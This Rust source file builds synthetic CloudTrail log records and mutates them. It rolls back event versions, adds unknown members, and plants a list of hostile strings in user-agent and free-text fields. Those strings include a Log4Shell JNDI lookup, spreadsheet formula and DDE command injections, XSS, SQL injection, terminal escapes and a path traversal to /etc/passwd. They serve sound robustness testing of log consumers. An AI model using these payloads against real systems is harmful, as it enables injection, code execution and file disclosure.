//! What befalls a record: its text is changed after it was rendered, in the same way wherever it is made again.

use crate::record::escape;
use crate::record::ids::hex;
use crate::seed::{Key, name};

/// The changes to one record, by where their draws lie.
#[derive(Clone, Copy, Debug)]
pub(in crate::trail) struct Changes {
    hostile: Option<Key>,
    unknown: Option<Key>,
    drift: Option<Key>,
}

/// The longest user agent that CloudTrail keeps.
const LONGEST: usize = 1_024;

/// What callers write to see what becomes of it; `@` stands for the canary.
const HOSTILE: [&str; 10] = [
    "${jndi:ldap://@.example.com/a}",
    "=HYPERLINK(\"http://@.example.com\",\"@\")",
    "+cmd|' /C calc'!@",
    "<script>alert('@')</script>",
    "'; DROP TABLE events; -- @",
    "@\"quoted\" 'twice' \\ and \\\" again\\",
    "@\u{0}\u{1b}[31m\r\n\tlevel=error msg=\"@\"\u{7f}",
    "{\"Records\":[{\"eventID\":\"@\"}]}",
    "@ \u{202e}gnp.exe \u{2028}\u{fffd} caf\u{e9} \u{1f600} %s%n%d ../../etc/passwd",
    "@,@;@|@\t@",
];

/// Members of `requestParameters` that users fill with any text.
const FREE_TEXTS: [&str; 2] = ["\"displayName\":\"", "\"description\":\""];

/// What stands in place of sensitive values.
const HIDDEN: &str = "HIDDEN_DUE_TO_SECURITY_REASONS";

/// What no document knows, with a value drawn for `@`.
const UNKNOWN: [&str; 4] = [
    ",\"requestOrigin\":\"edge-@\"",
    ",\"policyEvaluation\":{\"decision\":\"allowed\",\"statements\":[{\"id\":\"@\",\"matched\":true}]}",
    ",\"retryCount\":0,\"retryOf\":null",
    ",\"labels\":[\"@\",2,1.5,false,[],{}]",
];

/// Members that came with an eventVersion, the newest first.
const SINCE: [(u8, &str); 4] =
    [(8, "sessionCredentialFromConsole"), (8, "tlsDetails"), (7, "eventCategory"), (6, "managementEvent")];

/// A word that stands in the hostile texts of one record, and nowhere else.
pub(super) fn canary(key: Key) -> String {
    format!("canary-{}", hex(key.named(const { name("canary") }), 16))
}

impl Changes {
    /// The changes to a record that at least one of them befalls.
    pub(super) fn new(hostile: Option<Key>, unknown: Option<Key>, drift: Option<Key>) -> Option<Self> {
        let is_any = hostile.or(unknown).or(drift).is_some();
        is_any.then_some(Self { hostile, unknown, drift })
    }

    /// The record with the changes; as it comes, it lacks its last brace.
    pub(in crate::trail) fn apply(self, mut record: String) -> String {
        if let Some(key) = self.drift {
            drift(&mut record, key);
        }
        if let Some(key) = self.hostile {
            poison(&mut record, key);
        }
        if let Some(key) = self.unknown {
            record += &key.at(0).pick(&UNKNOWN).replace('@', &hex(key.at(1), 12));
        }
        record
    }
}

/// Puts a hostile text where the user agent stands, and into the first free text of the request.
fn poison(record: &mut String, key: Key) {
    let canary = canary(key);
    let long = || canary.clone() + &"A".repeat(LONGEST - canary.len());
    let text = |key: Key| match key.below(HOSTILE.len() as u64 + 1) as usize {
        at if at < HOSTILE.len() => HOSTILE[at].replace('@', &canary),
        _ => long(),
    };
    replace(record, 0, "\"userAgent\":\"", &text(key.at(1)));
    let Some(request) = record.find("\"requestParameters\":{") else { return };
    let starts = FREE_TEXTS.iter().filter_map(|name| Some((request + record[request..].find(name)?, *name)));
    let end = record[request..].find("\"responseElements\":").map_or(record.len(), |end| request + end);
    if let Some((at, name)) = starts.filter(|(at, _)| *at < end).min() {
        replace(record, at, name, &text(key.at(2)));
    }
}

/// Replaces the text behind a name that stands somewhere from `from` on. Inside of texts no quote stands alone, so what
/// looks like a member is one.
fn replace(record: &mut String, from: usize, name: &str, text: &str) {
    let Some(start) = record[from..].find(name).map(|at| from + at + name.len()) else { return };
    let Some(length) = text_length(&record[start..]) else { return };
    // What CloudTrail hides stays hidden, whatever was in it.
    if record[start..].starts_with(HIDDEN) {
        return;
    }
    record.replace_range(start..start + length, &escape(text));
}

/// How long the text is that begins here, without its quote.
fn text_length(rest: &str) -> Option<usize> {
    let mut is_escaped = false;
    rest.bytes().position(|byte| {
        let ends = byte == b'"' && !is_escaped;
        is_escaped = byte == b'\\' && !is_escaped;
        ends
    })
}

/// Gives the record one of the three eventVersions before its own, and takes away what came later.
fn drift(record: &mut String, key: Key) {
    const NAME: &str = "\"eventVersion\":\"1.";
    let Some(start) = record.find(NAME).map(|at| at + NAME.len()) else { return };
    let Some(Ok(now)) = record.get(start..start + 2).map(str::parse::<u8>) else { return };
    let older = now.saturating_sub(1 + key.at(0).below(3) as u8).max(OLDEST);
    if older >= now {
        return;
    }
    record.replace_range(start..start + 2, &format!("{older:02}"));
    for (_, member) in SINCE.iter().filter(|(since, _)| older < *since) {
        remove(record, member);
    }
}

/// No record drifts to an eventVersion before 1.05.
pub(super) const OLDEST: u8 = 5;

/// Removes a member whose value is a text, a word or a flat object.
fn remove(record: &mut String, member: &str) {
    let Some(start) = record.rfind(&format!(",\"{member}\":")) else { return };
    let value = start + member.len() + 4;
    let rest = &record[value..];
    let length = match rest.as_bytes().first() {
        Some(b'"') => text_length(&rest[1..]).map(|length| length + 2),
        Some(b'{') => rest.find('}').map(|end| end + 1),
        _ => Some(rest.find(',').unwrap_or(rest.len())),
    };
    if let Some(length) = length {
        record.replace_range(start..value + length, "");
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::seed::Seed;

    const RECORD: &str = concat!(
        r#"{"eventVersion":"1.11","userAgent":"say \"hi\" \\","requestParameters":{"displayName":"Ann","x":1},"#,
        r#""responseElements":null,"managementEvent":true,"eventCategory":"Management","#,
        r#""tlsDetails":{"tlsVersion":"TLSv1.3"},"sessionCredentialFromConsole":"true""#
    );

    fn read(record: &str) -> serde_json::Value {
        serde_json::from_str(&format!("{record}}}")).unwrap()
    }

    #[test]
    fn every_change_leaves_json_and_says_what_it_should() {
        for number in 0..200 {
            let key = Seed(5).key("changes").at(number);
            let hostile = Changes::new(Some(key), None, None).unwrap().apply(RECORD.to_owned());
            let found = read(&hostile);
            for text in [&found["userAgent"], &found["requestParameters"]["displayName"]] {
                let text = text.as_str().unwrap();
                assert!(text.contains(&canary(key)) && text.chars().count() <= LONGEST, "{text}");
            }
            assert_eq!(found["requestParameters"]["x"], 1);
            let unknown = read(&Changes::new(None, Some(key), None).unwrap().apply(RECORD.to_owned()));
            assert!(unknown.as_object().unwrap().len() > read(RECORD).as_object().unwrap().len());
        }
    }

    #[test]
    fn an_older_version_lacks_what_came_later() {
        for (now, gone) in [("1.11", 0), ("1.08", 2), ("1.07", 3), ("1.06", 4), ("1.05", 0)] {
            let record = RECORD.replace("1.11", now);
            for number in 0..20 {
                let drifted =
                    read(&Changes::new(None, None, Some(Seed(1).key("d").at(number))).unwrap().apply(record.clone()));
                let version = drifted["eventVersion"].as_str().unwrap();
                assert!(version < now || now == "1.05", "{version}");
                let left = drifted.as_object().unwrap().len();
                assert!(left <= read(&record).as_object().unwrap().len() - gone, "{drifted}");
            }
        }
    }
}
